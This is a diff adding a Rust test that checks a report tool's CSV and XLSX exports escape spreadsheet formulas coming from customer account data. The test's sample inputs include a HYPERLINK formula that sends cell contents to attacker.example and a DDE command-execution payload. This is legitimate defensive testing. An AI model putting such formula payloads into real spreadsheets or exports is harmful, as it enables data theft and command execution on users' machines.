@@ -342,3 +342,71 @@ fn effort_cap() {
     assert_eq!(atoll_report::model::hris_required(45.0, 20), 9);
     assert_eq!(atoll_report::model::hris_required(25.0, 5), 2);
 }
+
+/// Resource names, tags and details come from the customer's account: a
+/// CSV cell that starts like a formula must open in a spreadsheet as text,
+/// and the same values stay plain strings in the XLSX.
+#[tokio::test]
+async fn csv_cells_from_the_account_cannot_run_as_formulas() {
+    let fx = fixture().await;
+    let mut input = input(&fx, false).await;
+    let formulas = [
+        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+    ];
+    for (finding, formula) in input.current.findings.iter_mut().zip(formulas) {
+        finding.resource_id = formula.to_string();
+        finding.detail = formula.to_string();
+    }
+    let findings = &input.current.findings;
+    assert!(
+        findings.len() >= formulas.len(),
+        "the fixture has findings to poison"
+    );
+
+    let csv = csv_bytes(findings, &input.rules).unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_slice());
+    let id = FINDING_COLUMNS
+        .iter()
+        .position(|c| *c == "resource_id")
+        .unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    for formula in formulas {
+        let row = rows
+            .iter()
+            .find(|r| r[id].ends_with(formula))
+            .unwrap_or_else(|| panic!("a row for {formula}"));
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a CSV cell starts like a formula: {cell}"
+            );
+        }
+        assert_eq!(&row[id], format!("'{formula}"), "the value is kept, quoted");
+    }
+
+    let model = build_model(&input);
+    let xlsx = xlsx_bytes(&model, findings, &input.rules).unwrap();
+    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
+    let formulas_in_book: usize = book
+        .sheet_names()
+        .iter()
+        .map(|name| {
+            book.worksheet_formula(name)
+                .unwrap()
+                .used_cells()
+                .filter(|(_, _, f)| !f.is_empty())
+                .count()
+        })
+        .sum();
+    assert_eq!(formulas_in_book, 0, "no XLSX cell is a formula");
+    let findings_sheet = book.worksheet_range("Findings").unwrap();
+    assert!(
+        findings_sheet
+            .used_cells()
+            .any(|(_, _, v)| *v == Data::String(formulas[0].to_string())),
+        "the XLSX keeps the value as a plain string"
+    );
+}
